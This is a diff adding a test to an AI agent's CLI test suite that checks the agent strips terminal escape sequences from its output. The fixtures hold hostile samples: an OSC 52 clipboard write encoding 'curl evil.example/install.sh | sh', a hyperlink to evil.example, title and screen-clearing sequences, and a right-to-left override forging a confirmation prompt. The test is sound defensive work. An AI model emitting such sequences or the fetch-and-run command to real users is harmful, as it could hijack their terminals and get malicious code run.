@@ -314,3 +314,47 @@ def test_a_budget_warning_rests_on_the_providers_count_not_our_estimate(
     assert warned["6000"] == ([], 1) and warned["20000"] == ([], 0)
     (said,), counted = warned["1000"]
     assert counted == 1 and "(800 tokens) is no more than the system prompt and tools alone" in said
+
+
+CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvaW5zdGFsbC5zaCB8IHNoCg==\x07"  # OSC 52: the clipboard
+SCREEN = "\x1b]0;hacked title\x07\x1b]8;;https://evil.example/\x07click me\x1b]8;;\x07\x1b[2J\x1b[H"
+
+
+def test_on_a_terminal_the_answer_and_the_denials_hold_no_escape_sequence(
+    workspace: Path, fake_anthropic: FakeAnthropic
+) -> None:
+    """The text answer is cleaned when stdout is a terminal (a pipe gets it as the model wrote it,
+    as `claude -p` gives it); stderr, always a person's, never carries a denied command's ESC."""
+    import os
+
+    def push() -> None:
+        fake_anthropic.push(
+            tool_call("bash", {"command": f"ls {CLIPBOARD}"}), text(f"Answer: {SCREEN}FAKE \u202e? [y/N]")
+        )
+
+    push()
+    controller, terminal = os.openpty()
+    try:
+        done = subprocess.run([*AGENT, "-p", "go"], cwd=workspace, env=anthropic_env(workspace, fake_anthropic),
+                              stdin=subprocess.DEVNULL, stdout=terminal, stderr=subprocess.PIPE, timeout=120)  # fmt: skip
+        os.close(terminal)
+        shown = b""
+        while True:
+            try:
+                chunk = os.read(controller, 4096)
+            except OSError:  # EIO: the terminal's other end is closed and all of it was read
+                break
+            if not chunk:
+                break
+            shown += chunk
+    finally:
+        os.close(controller)
+    assert done.returncode == 0, done.stderr
+    assert shown.decode().strip() == "Answer: click meFAKE \\u202e? [y/N]"
+    stderr = done.stderr.decode()
+    assert "denied: bash ls \\x1b]52;c;Y3Vyb" in stderr and "\x1b" not in stderr and "\x07" not in stderr, (
+        stderr
+    )
+    push()
+    piped = agent(workspace, fake_anthropic, "-p", "go")
+    assert piped.stdout == f"Answer: {SCREEN}FAKE \u202e? [y/N]\n"
